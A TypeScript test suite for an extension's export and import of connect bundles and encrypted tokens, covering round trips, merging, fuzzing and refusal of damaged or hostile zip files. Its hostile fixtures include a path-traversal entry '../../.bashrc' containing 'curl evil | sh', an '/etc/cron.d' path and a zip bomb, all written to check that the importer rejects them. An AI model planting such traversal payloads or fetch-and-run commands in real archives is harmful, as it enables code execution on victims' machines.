import fc from 'fast-check';
import JSZip from 'jszip';
import { beforeAll, describe, expect, it } from 'vitest';
import { rawZip } from '../../tests/unit/fixtures/raw-zip';
import {
  T0,
  bundleRecord,
  dbIdFor,
  filledStore,
  freshStore,
  newVault,
  putBundle,
  putToken,
  realBundle,
  type FilledStore,
  type PlainToken,
} from '../../tests/unit/fixtures/filled-store';
import { canonicalJson, exportStore, type BundlesDocument, type ExportManifest, type TokensPayload } from './export-store';
import { importStore, isSafeEntryPath } from './import-store';
import { type CompanionDb } from '../store/schema';
import type { Vault } from '../vault/vault';
import { readZipDirectory } from '../zip/zip-directory';
import type { ImportReport, TokenExportChoice } from './types';
import { getBundleFile, listBundles, listTokens, tokensWithBoxesIn } from '../store/queries';

const PASSPHRASE = 'correct horse battery staple';
const ENCRYPTED: TokenExportChoice = { mode: 'encrypted', passphrase: PASSPHRASE };

async function exportOf(db: CompanionDb, vault: Vault, tokens: TokenExportChoice = ENCRYPTED, now = T0): Promise<Uint8Array> {
  const result = await exportStore({ db, vault, extensionVersion: '0.1.0', now: () => now, tokens });
  if (!result.ok) throw new Error(`${result.error.code}: ${result.error.message}`);
  return result.value;
}

async function entries(bytes: Uint8Array): Promise<Map<string, Uint8Array>> {
  const zip = await JSZip.loadAsync(bytes, { checkCRC32: true });
  const out = new Map<string, Uint8Array>();
  for (const file of Object.values(zip.files)) if (!file.dir) out.set(file.name, await file.async('uint8array'));
  return out;
}

/**
 * What an export says, to compare two exports: every entry's bytes, except the manifest's time, and the
 * encrypted tokens as their decrypted content (salt and IV are random by design).
 */
async function contentOf(bytes: Uint8Array, vault: Vault): Promise<Record<string, unknown>> {
  const out: Record<string, unknown> = {};
  for (const [name, data] of await entries(bytes)) {
    const text = new TextDecoder().decode(data);
    if (name === 'manifest.json') out[name] = { ...(JSON.parse(text) as ExportManifest), exportedAt: 'any' };
    else if (name === 'tokens.encrypted.json') {
      const opened = await vault.importEncrypted<TokensPayload>(text, PASSPHRASE);
      if (!opened.ok) throw new Error(opened.error.message);
      out[name] = opened.value;
    } else out[name] = Buffer.from(data).toString('base64');
  }
  return out;
}

/** Everything in the store, with each token's sealed box opened: equal snapshots mean nothing changed. */
async function snapshot(db: CompanionDb, vault: Vault): Promise<string> {
  const tx = db.transaction(['bundles', 'bundleFiles', 'tokens', 'tokenBoxes'], 'readonly');
  const [bundles, files, tokens] = await Promise.all([
    tx.objectStore('bundles').getAll(),
    tx.objectStore('bundleFiles').getAll(),
    tokensWithBoxesIn(tx),
  ]);
  const opened = [];
  for (const { sealed, ...rest } of tokens) opened.push({ ...rest, plain: await vault.open(sealed) });
  return canonicalJson({ bundles, files: files.map((f) => ({ ...f, bytes: Buffer.from(f.bytes).toString('base64') })), tokens: opened });
}

const importInto = (db: CompanionDb, vault: Vault, bytes: Uint8Array, extra: { passphrase?: string; skipTokens?: boolean } = { passphrase: PASSPHRASE }) =>
  importStore({ db, vault, bytes, now: () => T0, ...extra });

/** What keep-token seals: `{ token, secret? }`. */
const sealedShape = (t: PlainToken) => (t.secret ? { token: t.token, secret: t.secret } : { token: t.token });

function counts(report: ImportReport) {
  return { added: report.added, updated: report.updated, skipped: report.skipped };
}

/** Rebuilds an export zip with some entries changed (JSZip, like the real export). */
async function rezip(bytes: Uint8Array, change: (files: Map<string, Uint8Array>) => void): Promise<Uint8Array> {
  const files = await entries(bytes);
  change(files);
  const zip = new JSZip();
  for (const [name, data] of files) zip.file(name, data, { createFolders: false });
  return zip.generateAsync({ type: 'uint8array', compression: 'DEFLATE' });
}

const editJson = <T>(files: Map<string, Uint8Array>, name: string, edit: (value: T) => void) => {
  const value = JSON.parse(new TextDecoder().decode(files.get(name))) as T;
  edit(value);
  files.set(name, new TextEncoder().encode(JSON.stringify(value)));
};

describe('importStore: round trip', () => {
  let source: FilledStore;
  let exported: Uint8Array;
  beforeAll(async () => {
    source = await filledStore({ bundles: 20, tokens: 8 });
    exported = await exportOf(source.db, source.vault);
  }, 120_000);

  it('export, wipe, import, export again: the same store', async () => {
    const wiped = await freshStore();
    const result = await importInto(wiped, source.vault, exported);
    if (!result.ok) throw new Error(result.error.message);
    expect(counts(result.value)).toEqual({ added: { bundles: 20, tokens: 8 }, updated: { bundles: 0, tokens: 0 }, skipped: { bundles: 0, tokens: 0 } });
    expect(result.value.refused).toEqual([]);
    expect(result.value.tokens).toBe('encrypted');

    const again = await exportOf(wiped, source.vault, ENCRYPTED, T0 + 3_600_000);
    expect(await contentOf(again, source.vault)).toEqual(await contentOf(exported, source.vault));
    expect(await snapshot(wiped, source.vault)).toBe(await snapshot(source.db, source.vault));
  });

  it('moves tokens to another installation: its own vault seals them again and opens them', async () => {
    const elsewhere = newVault();
    const db = await freshStore();
    const result = await importInto(db, elsewhere, exported);
    expect(result.ok).toBe(true);
    const tokens = await listTokens(db);
    expect(tokens).toHaveLength(8);
    for (const record of tokens) {
      const plain = source.tokens.find((t) => t.clientId === record.clientId)!;
      expect(await elsewhere.open(record.sealed)).toEqual({ ok: true, value: sealedShape(plain) });
      expect((await source.vault.open(record.sealed)).ok).toBe(false);
    }
    expect(tokens.filter((t) => t.hasSecret).every((t) => t.secretCheck === 'match')).toBe(true);
    expect(await contentOf(await exportOf(db, elsewhere), elsewhere)).toEqual(await contentOf(exported, source.vault));
  });

  it('imports the same file twice without duplicates: the second time skips everything', async () => {
    const db = await freshStore();
    await importInto(db, source.vault, exported);
    const before = await snapshot(db, source.vault);
    const second = await importInto(db, source.vault, exported);
    if (!second.ok) throw new Error(second.error.message);
    expect(counts(second.value)).toEqual({ added: { bundles: 0, tokens: 0 }, updated: { bundles: 0, tokens: 0 }, skipped: { bundles: 20, tokens: 8 } });
    expect(await snapshot(db, source.vault)).toBe(before);
  });

  it('round-trips a plain-CSV export too, with no passphrase', async () => {
    const plain = await exportOf(source.db, source.vault, { mode: 'plain-csv' });
    const db = await freshStore();
    const result = await importStore({ db, vault: source.vault, bytes: plain, now: () => T0 });
    if (!result.ok) throw new Error(result.error.message);
    expect(result.value.added).toEqual({ bundles: 20, tokens: 8 });
    expect(await snapshot(db, source.vault)).toBe(await snapshot(source.db, source.vault));
  });

  it('needs no passphrase for an encrypted export that holds no tokens', async () => {
    const bundlesOnly = await filledStore({ bundles: 2, tokens: 0, distinct: 1 });
    const file = await exportOf(bundlesOnly.db, bundlesOnly.vault);
    const result = await importStore({ db: await freshStore(), vault: bundlesOnly.vault, bytes: file, now: () => T0 });
    expect(result.ok && result.value.added).toEqual({ bundles: 2, tokens: 0 });
    expect(result.ok && result.value.refused).toEqual([]);
  });

  it('asks for the passphrase, refuses a wrong one, and can import the bundles alone', async () => {
    const db = await freshStore();
    const empty = await snapshot(db, source.vault);
    const none = await importStore({ db, vault: source.vault, bytes: exported, now: () => T0 });
    expect(none).toMatchObject({ ok: false, error: { code: 'passphrase-needed' } });
    const wrong = await importInto(db, source.vault, exported, { passphrase: 'horse battery staple correct' });
    expect(wrong).toMatchObject({ ok: false, error: { code: 'wrong-passphrase' } });
    expect(await snapshot(db, source.vault)).toBe(empty);

    const bundlesOnly = await importInto(db, source.vault, exported, { skipTokens: true });
    if (!bundlesOnly.ok) throw new Error(bundlesOnly.error.message);
    expect(bundlesOnly.value.added).toEqual({ bundles: 20, tokens: 0 });
    expect(bundlesOnly.value.refused).toEqual([{ path: 'tokens.encrypted.json', reason: 'Tokens were left out, as asked.' }]);
    expect(await listTokens(db)).toEqual([]);
  });
});

describe('importStore: damaged, foreign and hostile files', () => {
  let source: FilledStore;
  let exported: Uint8Array;
  let target: FilledStore;
  beforeAll(async () => {
    source = await filledStore({ bundles: 6, tokens: 3 });
    exported = await exportOf(source.db, source.vault);
    // The store we import into already holds data: "nothing changed" must mean it.
    target = await filledStore({ bundles: 2, tokens: 1, distinct: 1 });
  }, 120_000);

  async function bundleEntryOffset(bytes: Uint8Array): Promise<{ at: number; size: number }> {
    const directory = readZipDirectory(bytes, { maxEntries: 100 });
    if (!directory.ok) throw new Error('no directory');
    const entry = directory.directory.entries.find((e) => e.name.startsWith('bundles/'))!;
    return { at: entry.dataOffset, size: entry.compressedSize };
  }

  const cases: Array<[string, () => Promise<Uint8Array>, string, RegExp?]> = [
    ['an empty file', async () => new Uint8Array(0), 'not-a-zip'],
    ['a text file', async () => new TextEncoder().encode('<Error><Code>AccessDenied</Code></Error>'), 'not-a-zip'],
    // Cut in the middle, the file may end inside a kept bundle, whose own end record then misleads the reader.
    ['a truncated download (half)', async () => exported.slice(0, exported.length >> 1), 'damaged'],
    ['a truncated download (first 20 bytes)', async () => exported.slice(0, 20), 'damaged', /cut short/],
    ['a truncated download (last 100 bytes)', async () => exported.slice(0, exported.length - 100), 'damaged'],
    [
      'a flipped byte inside a kept bundle',
      async () => {
        const copy = exported.slice();
        const { at, size } = await bundleEntryOffset(copy);
        copy[at + (size >> 1)]! ^= 0x01;
        return copy;
      },
      'damaged',
      /checksum/,
    ],
    [
      'a flipped byte inside bundles.json',
      async () => {
        const copy = exported.slice();
        const directory = readZipDirectory(copy, { maxEntries: 100 });
        if (!directory.ok) throw new Error('no directory');
        const entry = directory.directory.entries.find((e) => e.name === 'bundles.json')!;
        copy[entry.dataOffset + (entry.compressedSize >> 1)]! ^= 0x20;
        return copy;
      },
      'damaged',
    ],
    [
      'a foreign zip',
      async () => {
        const zip = new JSZip();
        zip.file('photos/cat.jpg', new Uint8Array([0xff, 0xd8, 0xff, 0xe0]));
        zip.file('notes.txt', 'hello');
        return zip.generateAsync({ type: 'uint8array' });
      },
      'not-an-export',
      /no manifest/,
    ],
    ['a secure connect bundle instead of an export', async () => source.bundles[0]!.bytes, 'not-an-export', /secure connect bundle/],
    [
      'a zip whose manifest is someone else\'s',
      async () => rezip(exported, (files) => editJson<Record<string, unknown>>(files, 'manifest.json', (m) => void (m.format = 'other-tool'))),
      'not-an-export',
    ],
    [
      'a zip with ../ paths',
      async () => {
        const files = await entries(exported);
        return rawZip([...files].map(([name, stored]) => ({ name, stored })).concat([{ name: '../../.bashrc', stored: new TextEncoder().encode('curl evil | sh') }]));
      },
      'unsafe-path',
    ],
    [
      'a zip with an absolute path',
      async () => rawZip([{ name: '/etc/cron.d/x', stored: new Uint8Array([1]) }, { name: 'manifest.json', stored: new Uint8Array([123, 125]) }]),
      'unsafe-path',
    ],
    [
      'a zip with a backslash path',
      async () => rawZip([{ name: 'bundles\\..\\..\\x.zip', stored: new Uint8Array([1]) }]),
      'unsafe-path',
    ],
    [
      'a bundles.json whose sha256 does not match the bundle',
      async () =>
        rezip(exported, (files) =>
          editJson<BundlesDocument>(files, 'bundles.json', (doc) => {
            const kept = doc.bundles.find((b) => b.file)!;
            kept.file!.sha256 = 'f'.repeat(64);
          }),
        ),
      'damaged',
      /SHA-256/,
    ],
    [
      'a kept bundle swapped for another real bundle',
      async () => {
        const other = await realBundle(dbIdFor(77), 'intruder', 'us-east1');
        return rezip(exported, (files) => {
          const name = [...files.keys()].find((n) => n.startsWith('bundles/'))!;
          files.set(name, other.bytes);
        });
      },
      'damaged',
    ],
    [
      'a bundle file missing from the zip',
      async () => rezip(exported, (files) => files.delete([...files.keys()].find((n) => n.startsWith('bundles/'))!)),
      'damaged',
      /missing/,
    ],
    [
      'a bundles.json with a record of the wrong shape',
      async () => rezip(exported, (files) => editJson<BundlesDocument>(files, 'bundles.json', (doc) => void ((doc.bundles[0]!.record as unknown as Record<string, unknown>).updatedAt = 'yesterday'))),
      'damaged',
      /not a bundle record/,
    ],
    [
      'counts that disagree with the manifest',
      async () => rezip(exported, (files) => editJson<BundlesDocument>(files, 'bundles.json', (doc) => void doc.bundles.pop())),
      'damaged',
    ],
    [
      'an export from a newer version',
      async () => rezip(exported, (files) => editJson<ExportManifest>(files, 'manifest.json', (m) => void (m.formatVersion = 2))),
      'newer-format',
    ],
    [
      'encrypted tokens changed after export',
      async () =>
        rezip(exported, (files) =>
          editJson<{ data: string }>(files, 'tokens.encrypted.json', (t) => {
            const bytes = Buffer.from(t.data, 'base64');
            bytes[5]! ^= 1;
            t.data = bytes.toString('base64');
          }),
        ),
      'wrong-passphrase',
    ],
    [
      'a zip bomb declaring a small manifest',
      async () => {
        const { deflateRawSync } = await import('node:zlib');
        return rawZip([{ name: 'manifest.json', stored: deflateRawSync(Buffer.alloc(20 * 1024 * 1024, 32)), method: 8, uncompressedSize: 100, crc: 0 }]);
      },
      'damaged',
      /cannot be unpacked/,
    ],
  ];

  it.each(cases)('refuses %s with a clear message and changes nothing', async (_name, make, code, message) => {
    const before = await snapshot(target.db, target.vault);
    const result = await importInto(target.db, target.vault, await make());
    expect(result.ok).toBe(false);
    if (result.ok) return;
    expect(result.error.code).toBe(code);
    if (message) expect(result.error.message).toMatch(message);
    expect(result.error.message.length).toBeGreaterThan(10);
    expect(result.error.hint.length).toBeGreaterThan(10);
    for (const token of source.tokens) expect(JSON.stringify(result.error)).not.toContain(token.token);
    expect(await snapshot(target.db, target.vault)).toBe(before);
  });

  it('refuses files beyond the caps before inflating anything', async () => {
    const before = await snapshot(target.db, target.vault);
    const withLimits = (limits: Parameters<typeof importStore>[0]['limits']) =>
      importStore({ db: target.db, vault: target.vault, bytes: exported, passphrase: PASSPHRASE, now: () => T0, limits });
    expect(await withLimits({ maxBytes: 1000 })).toMatchObject({ ok: false, error: { code: 'too-large' } });
    expect(await withLimits({ maxEntries: 3 })).toMatchObject({ ok: false, error: { code: 'too-large' } });
    expect(await withLimits({ maxTotalSize: 20_000 })).toMatchObject({ ok: false, error: { code: 'too-large' } });
    expect(await withLimits({ maxRecords: 2 })).toMatchObject({ ok: false, error: { code: 'too-large' } });
    expect(await withLimits({ maxBundleSize: 1000 })).toMatchObject({ ok: false, error: { code: 'damaged' } });
    expect(await snapshot(target.db, target.vault)).toBe(before);
  });

  it('leaves out entries that are not part of an export, and says so', async () => {
    const extra = await rezip(exported, (files) => {
      files.set('__MACOSX/._manifest.json', new Uint8Array([0, 5, 22, 7]));
      files.set('bundles/stray/us-east1/secure-connect-stray.zip', source.bundles[0]!.bytes);
    });
    const db = await freshStore();
    const result = await importInto(db, source.vault, extra);
    if (!result.ok) throw new Error(result.error.message);
    expect(result.value.added).toEqual({ bundles: 6, tokens: 3 });
    expect(result.value.refused.map((r) => r.path).sort()).toEqual(['__MACOSX/._manifest.json', 'bundles/stray/us-east1/secure-connect-stray.zip']);
  });

  it('leaves out records dated in the future, which would otherwise win every later merge', async () => {
    const future = await rezip(exported, (files) =>
      editJson<BundlesDocument>(files, 'bundles.json', (doc) => void (doc.bundles[0]!.record.updatedAt = T0 + 30 * 86_400_000)),
    );
    const db = await freshStore();
    const result = await importInto(db, source.vault, future);
    if (!result.ok) throw new Error(result.error.message);
    expect(result.value.added.bundles).toBe(5);
    expect(result.value.refused).toHaveLength(1);
    expect(result.value.refused[0]!.reason).toMatch(/future/);
  });

  it('writes in one transaction: a write failing half-way leaves the store as it was', async () => {
    const db = await freshStore();
    await importInto(db, source.vault, await exportOf(target.db, target.vault));
    const before = await snapshot(db, source.vault);
    // The token store refuses its first write, after every bundle write was already made.
    const failing = new Proxy(db, {
      get(target, key, receiver) {
        if (key !== 'transaction') return Reflect.get(target, key, receiver);
        return (...args: Parameters<CompanionDb['transaction']>) => {
          const tx = target.transaction(...args);
          const objectStore = tx.objectStore.bind(tx);
          (tx as { objectStore: unknown }).objectStore = (name: 'bundles' | 'bundleFiles' | 'tokens') => {
            const store = objectStore(name);
            if (name === 'tokens') (store as { put: unknown }).put = () => Promise.reject(new Error('QuotaExceededError'));
            return store;
          };
          return tx;
        };
      },
    });
    const result = await importInto(failing, source.vault, exported);
    expect(result).toMatchObject({ ok: false, error: { code: 'store-failed' } });
    expect(await snapshot(db, source.vault)).toBe(before);
  });

  it('never throws and never half-imports, whatever bytes are flipped or cut (fuzzing)', async () => {
    const plain = await exportOf(source.db, source.vault, { mode: 'plain-csv' });
    const reference = await freshStore();
    await importInto(reference, source.vault, plain);
    const expected = await snapshot(reference, source.vault);
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.tuple(fc.nat({ max: plain.length - 1 }), fc.integer({ min: 1, max: 255 })), { minLength: 1, maxLength: 4 }),
        fc.option(fc.nat({ max: plain.length - 1 }), { nil: undefined }),
        async (flips, cut) => {
          const bytes = plain.slice(0, cut ?? plain.length);
          for (const [at, mask] of flips) if (at < bytes.length) bytes[at]! ^= mask;
          const db = await freshStore();
          const empty = await snapshot(db, source.vault);
          const result = await importInto(db, source.vault, bytes, {});
          // Bytes no check covers (dates, versions in headers) may change and import fine, but only to the same store.
          expect(await snapshot(db, source.vault)).toBe(result.ok ? expected : empty);
          db.close();
        },
      ),
      { numRuns: 60 },
    );
  }, 120_000);

  it('accepts only plain relative paths', () => {
    for (const good of ['manifest.json', 'bundles/orders/us-east1/secure-connect-orders.zip', 'bundles/Café/日本/x.zip', 'bundles/'])
      expect(isSafeEntryPath(good)).toBe(true);
    for (const bad of ['', '../x', 'a/../../x', 'a/./b', '/etc/passwd', 'a//b', 'C:/x', 'a\\b', 'a\u0000b', 'x\u202Egnp.exe', 'Cafe\u0301', 'a/b:stream'])
      expect(isSafeEntryPath(bad)).toBe(false);
  });
});

describe('importStore: merging', () => {
  it('keeps the newer bundle record, and never trades a kept copy for none', async () => {
    const bundle = await realBundle(dbIdFor(500), 'orders', 'us-east1');
    const mine = await freshStore();
    const theirs = await freshStore();
    const vault = newVault();
    const base = bundleRecord(bundle, { id: 'orders|us-east1|external', updatedAt: T0 - 10_000 });
    const other = bundleRecord(bundle, { id: 'other|us-east1|external', dbName: 'other', updatedAt: T0 - 10_000 });
    await putBundle(mine, base, bundle.bytes);
    await putBundle(mine, other, bundle.bytes);
    // Theirs: the same bundle seen later, but its link had expired and no copy was kept there.
    await putBundle(theirs, { ...base, hasCopy: false, copySha256: undefined, status: 'link-expired', updatedAt: T0 - 1_000, expiresAt: T0 - 2_000 });
    // And an older view of `other`.
    await putBundle(theirs, { ...other, status: 'checking', updatedAt: T0 - 20_000 }, bundle.bytes);

    const result = await importInto(mine, vault, await exportOf(theirs, vault, { mode: 'none' }));
    if (!result.ok) throw new Error(result.error.message);
    // A verified record gives way only to a copy verified here: the newer record without one changes nothing.
    expect(counts(result.value)).toEqual({ added: { bundles: 0, tokens: 0 }, updated: { bundles: 0, tokens: 0 }, skipped: { bundles: 2, tokens: 0 } });
    const records = await listBundles(mine);
    const merged = records.find((r) => r.id === base.id)!;
    expect(merged).toMatchObject({ status: 'verified', updatedAt: T0 - 10_000, hasCopy: true, copySha256: bundle.sha256 });
    expect((await getBundleFile(mine, base.id))?.bytes).toEqual(bundle.bytes);
    expect(records.find((r) => r.id === other.id)).toMatchObject({ status: 'verified' });
  });

  it('takes the newer copy when both kept one', async () => {
    const older = await realBundle(dbIdFor(501), 'orders', 'us-east1');
    const newer = await realBundle(dbIdFor(502), 'orders', 'us-east1');
    const mine = await freshStore();
    const theirs = await freshStore();
    const vault = newVault();
    const id = 'orders|us-east1|external';
    await putBundle(mine, bundleRecord(older, { id, updatedAt: T0 - 10_000 }), older.bytes);
    await putBundle(theirs, bundleRecord(newer, { id, updatedAt: T0 - 5_000 }), newer.bytes);
    const result = await importInto(mine, vault, await exportOf(theirs, vault, { mode: 'none' }));
    expect(result.ok && result.value.updated.bundles).toBe(1);
    expect((await getBundleFile(mine, id))?.bytes).toEqual(newer.bytes);
    // Importing the older one back changes nothing.
    const oldOnly = await freshStore();
    await putBundle(oldOnly, bundleRecord(older, { id, updatedAt: T0 - 10_000 }), older.bytes);
    const back = await importInto(theirs, vault, await exportOf(oldOnly, vault, { mode: 'none' }));
    expect(back.ok && back.value.skipped.bundles).toBe(1);
    expect((await getBundleFile(theirs, id))?.bytes).toEqual(newer.bytes);
  });

  it('keeps the newer token metadata, and never gives up a matching secret', async () => {
    const vault = newVault();
    const mine = await freshStore();
    const theirs = await freshStore();
    // Mine: token 1 with its secret, captured first. Theirs: the same token later, relabelled, without its secret.
    const plain = await putToken(mine, vault, 1, { capturedAt: T0 - 50_000 }, true);
    await putToken(theirs, vault, 1, { capturedAt: T0 - 10_000, label: 'prod reader' }, false, plain);
    // Token 2: theirs is older and has nothing new.
    const second = await putToken(mine, vault, 2, { capturedAt: T0 - 5_000, label: 'mine' }, true);
    await putToken(theirs, vault, 2, { capturedAt: T0 - 9_000, label: 'theirs' }, true, second);
    // Token 3 is new to me.
    const third = await putToken(theirs, vault, 3, {}, true);

    const result = await importInto(mine, vault, await exportOf(theirs, vault));
    if (!result.ok) throw new Error(result.error.message);
    expect(counts(result.value)).toEqual({ added: { bundles: 0, tokens: 1 }, updated: { bundles: 0, tokens: 1 }, skipped: { bundles: 0, tokens: 1 } });
    const tokens = await listTokens(mine);
    const one = tokens.find((t) => t.clientId === plain.clientId)!;
    expect(one).toMatchObject({ label: 'prod reader', capturedAt: T0 - 10_000, hasSecret: true, secretCheck: 'match' });
    expect(await vault.open(one.sealed)).toEqual({ ok: true, value: sealedShape(plain) });
    expect(tokens.find((t) => t.label === 'mine')).toBeDefined();
    const added = tokens.find((t) => t.clientId === third.clientId)!;
    expect(await vault.open(added.sealed)).toEqual({ ok: true, value: sealedShape(third) });
  });
});

describe('importStore: 1,000 bundles and 1,000 tokens', () => {
  it('exports and imports them all back', async () => {
    const big = await filledStore({ bundles: 1000, tokens: 1000 });
    const exported = await exportOf(big.db, big.vault);
    const db = await freshStore();
    const result = await importInto(db, big.vault, exported);
    if (!result.ok) throw new Error(result.error.message);
    expect(result.value.added).toEqual({ bundles: 1000, tokens: 1000 });
    expect(result.value.refused).toEqual([]);
    const again = await exportOf(db, big.vault, ENCRYPTED, T0 + 1);
    expect(await contentOf(again, big.vault)).toEqual(await contentOf(exported, big.vault));
  }, 300_000);
});
